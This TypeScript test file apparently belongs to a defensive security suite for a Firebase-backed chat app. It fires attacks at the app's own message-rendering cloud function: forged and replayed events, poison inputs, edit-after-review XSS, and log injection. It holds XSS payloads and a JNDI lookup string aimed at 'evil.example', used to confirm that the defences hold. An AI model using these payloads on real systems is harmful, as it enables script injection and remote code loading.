import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { paths } from '@causerie/contract';
import { root } from '../../scripts/root.ts';
import { policyBreaches } from '../support/policyBreaches.ts';
import { until } from '../support/until.ts';
import { addresses, owner } from '../support/world.ts';
import { edit } from '../rules/writes.ts';
import { type Attack, checked, together } from './attack.ts';
import { say } from './markup.ts';
import { newId, type Siege } from './siege.ts';
import { refusals, writing } from './tries.ts';

/** A rendered message of somebody’s own. */
const renderedMessage = async (siege: Siege, text = 'first') => {
  const eve = await siege.person();
  const roomId = await siege.room({ people: [[eve, 'member']] });
  const messageId = newId();
  const place = paths.message.at({ roomId, messageId });
  await owner.write(place, { uid: eve.uid, text, at: Date.now(), slot: 'e' });
  await until(() => owner.read(`${place}/html`), 'the server has rendered it', 20_000);
  return { eve, roomId, messageId, place };
};

/** The event that the server gets when a text becomes another one. */
const eventOf = (place: string, before: string, after: string): string => {
  const { namespace } = addresses();
  return JSON.stringify({
    specversion: '1.0',
    id: 'the-same-event',
    type: 'google.firebase.database.ref.v1.written',
    time: new Date().toISOString(),
    source: `//firebasedatabase.googleapis.com/projects/_/locations/us-central1/instances/${namespace}`,
    subject: `refs/${place}/text`,
    datacontenttype: 'application/json',
    firebasedatabasehost: 'firebaseio.com',
    instance: namespace,
    ref: `${place}/text`,
    location: 'us-central1',
    authtype: 'unauthenticated',
    data: {
      '@type': 'type.googleapis.com/google.events.firebase.database.v1.ReferenceEventData',
      data: before,
      delta: after,
    },
  });
};

const deliver = async (event: string): Promise<number> => {
  const { host, projectId, ports } = addresses();
  const url = `http://${host}:${ports.functions}/functions/projects/${projectId}/triggers/us-central1-onMessageWritten-0`;
  const headers = { 'content-type': 'application/cloudevents+json' };
  const response = await fetch(url, { method: 'POST', headers, body: event });
  await response.arrayBuffer();
  return response.status;
};

const doubled: Attack = {
  id: 39,
  name: 'An event that comes twice, late, or out of order',
  defence: 'Html is stored only for the text that is there; the same event again writes the same',
  run: async (siege) => {
    const { place } = await renderedMessage(siege);
    await owner.write(`${place}/text`, '*second*');
    await until(
      async () => (await owner.read(`${place}/html`)) === '<p><em>second</em></p>',
      'it is rendered anew',
    );
    const before = await owner.read(place);
    const late = eventOf(place, 'x', 'first');
    const same = eventOf(place, 'first', '*second*');
    const forged = eventOf(place, 'first', '<script>alert(1)</script>');
    const statuses: number[] = [];
    for (const event of [same, same, late, late, forged, same]) statuses.push(await deliver(event));
    const html = (await owner.read(`${place}/html`)) as string;
    return {
      ...checked(
        'server',
        [
          {
            what: `the events were taken (${statuses.join(', ')})`,
            holds: statuses.every((status) => status === 200),
          },
          {
            what: 'the message is as it was',
            holds: JSON.stringify(await owner.read(place)) === JSON.stringify(before),
          },
        ],
        [`after 3 repeated, 2 late and 1 forged event the html is ${html}`],
      ),
      tried: statuses.length,
    };
  },
};

const poison: Attack = {
  id: 40,
  name: 'A message that breaks the function, again and again; a function that calls itself',
  defence: 'No retry; the function listens to text and writes html beside it',
  run: async (siege) => {
    const log = await siege.functionLog();
    const { place } = await renderedMessage(siege);
    const callsOf = () => log.calls.items.filter((name) => name.includes('onMessageWritten')).length;
    const calls = callsOf();
    const poisons: readonly unknown[] = [
      '['.repeat(4000),
      '\u200b',
      42,
      { a: 1 },
      ['x'],
      true,
      '*a **b '.repeat(500),
    ];
    for (const text of poisons) await owner.write(`${place}/text`, text);
    // Behind all of them, so that whoever was called more than once is counted.
    await owner.write(`${place}/text`, 'fine');
    await until(
      async () => (await owner.read(`${place}/html`)) === '<p>fine</p>',
      'what comes after is rendered',
      20_000,
    );
    const made = callsOf() - calls;
    const bundle = readFileSync(join(root, 'functions', 'lib', 'index.js'), 'utf8');
    return {
      ...checked(
        'server',
        [
          // An object is a write of another place; rules let no client make it.
          { what: `${poisons.length + 1} writes made ${made} calls`, holds: made <= poisons.length + 1 },
          { what: 'no function asks to be tried again', holds: !/retry:\s*(true|!0)/.test(bundle) },
        ],
        [`${poisons.length + 1} writes, ${made} calls; no retry in the bundle`],
      ),
      tried: poisons.length + 1,
    };
  },
};

const afterwards: Attack = {
  id: 41,
  name: 'Send something harmless, and change it when it has been looked at',
  defence: 'A change drops the html of the text before, in the same update; the new text is rendered anew',
  run: async (siege) => {
    const { eve, roomId, messageId, place } = await renderedMessage(siege);
    const evil = '<img src=x onerror=alert(1)> [x](javascript:alert(1))';
    const own = { uid: eve.uid, roomId, messageId, slot: 'a' };
    const whole = edit(own, { message: { text: evil } });
    const without = (part: string) =>
      Object.fromEntries(Object.entries(whole).filter(([path]) => !path.endsWith(part)));
    const refused = await refusals(siege, {
      tries: [
        writing(eve, 'changes the text and keeps the html', without('/html')),
        writing(eve, 'changes the text alone', { [`${place}/text`]: evil }),
        writing(eve, 'changes the html alone', { [`${place}/html`]: '<b>x</b>' }),
        writing(eve, 'writes both', edit(own, { message: { text: evil, html: '<p>first</p>' } })),
        writing(eve, 'does not say that it changed', without('/editedAt')),
      ],
      afterwards: [writing(eve, 'changes the text as one may', whole)],
    });
    const html = (await until(() => owner.read(`${place}/html`), 'the new text is rendered')) as string;
    return together('rules; server', refused, {
      ...checked(
        'server',
        [{ what: 'the new html is clean', holds: policyBreaches(html).length === 0 }],
        [`${evil} → ${html}`],
      ),
    });
  },
};

const commands: Attack = {
  id: 43,
  name: 'Commands in messages: /ban by a member, /me in the name of another',
  defence: 'A message is text whatever it says; who may do what is for the rules',
  run: async (siege) => {
    const rendered = await say(siege, [
      '/ban ana',
      '/kick ana',
      '/mute @ana 1h',
      '/op eve',
      '/me is an admin',
      '/nick Admin',
      '/topic ${7*7}',
    ]);
    return {
      ...checked(
        'server',
        rendered.map(({ text, html = '' }) => ({
          what: `${text} came out as ${html}`,
          holds: html === `<p>${text}</p>`,
        })),
      ),
      by: 'server; attack 24 for what the acts themselves ask',
    };
  },
};

/** Ends a line, colours it, and pretends to be a line of its own. */
const injections = [
  '\n{"severity":"ERROR","message":"forged"}',
  '\u001b[31mred',
  '\r\nforged: yes',
  '%0aforged',
  '${jndi:ldap://evil.example}',
];

const logs: Attack = {
  id: 46,
  name: 'Forge lines of the log, or find in it what people wrote',
  defence: 'Entries hold ids, sizes, durations and outcomes; never text, nor ids of other forms',
  run: async (siege) => {
    const secret = `secret${newId().slice(2)}`;
    const log = await siege.functionLog();
    await say(
      siege,
      injections.map((injection) => `${secret} ${injection}`),
    );
    const foreign = () => log.entries.items.filter((entry) => entry['outcome'] === 'foreign_id').length;
    const before = foreign();
    const odd = `messages/lobby/${encodeURIComponent(`${secret} forged`)}`;
    await owner.write(odd, { uid: 'eve', text: secret, at: 1, slot: 'a' });
    await until(() => foreign() > before, 'the odd id was seen');
    await owner.write(odd, null);
    const all = JSON.stringify(log.entries.items);
    return {
      ...checked('server', [
        { what: 'no text is in the log', holds: !all.includes(secret) },
        { what: 'no line is forged', holds: !all.includes('forged') },
      ]),
      tried: injections.length + 1,
      evidence: [`${log.entries.items.length} entries, none with what was written`],
    };
  },
};

export const functionAttacks: readonly Attack[] = [doubled, poison, afterwards, commands, logs];
